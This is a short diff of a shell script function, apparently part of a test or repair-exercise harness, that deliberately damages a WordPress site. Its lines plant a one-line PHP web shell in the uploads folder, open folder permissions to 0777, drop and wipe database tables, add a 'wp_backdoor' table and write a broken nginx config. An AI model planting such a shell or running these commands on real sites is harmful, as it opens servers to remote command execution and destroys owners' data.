@@ -369,12 +369,12 @@ command_damage() {
   printf '<?php system($_GET["c"]);\n' >"$root/wp-content/uploads/shell.php"
   chmod 0777 "$root/wp-content"
   sql "$SCHEMA" <<SQL
-DROP TABLE wp_postmeta, wp_comments, wp_commentmeta, wp_term_relationships;
+DROP TABLE IF EXISTS wp_postmeta, wp_comments, wp_commentmeta, wp_term_relationships;
 DELETE FROM wp_posts WHERE ID > 30;
 UPDATE wp_posts SET post_title = '0wned';
 UPDATE wp_options SET option_value = 'damaged' WHERE option_name = 'rv_side';
-DROP TRIGGER rv_orders_stock;
-CREATE TABLE wp_backdoor (id INT PRIMARY KEY, code TEXT);
+DROP TRIGGER IF EXISTS rv_orders_stock;
+CREATE TABLE IF NOT EXISTS wp_backdoor (id INT PRIMARY KEY, code TEXT);
 SQL
   printf 'server { listen 127.0.0.1:%s; server_name %s; root /nowhere; bogus_directive on; }\n' "$WORLD_PORT" "$DOMAIN" \
     >"$WORLD/nginx/sites-available/$DOMAIN"
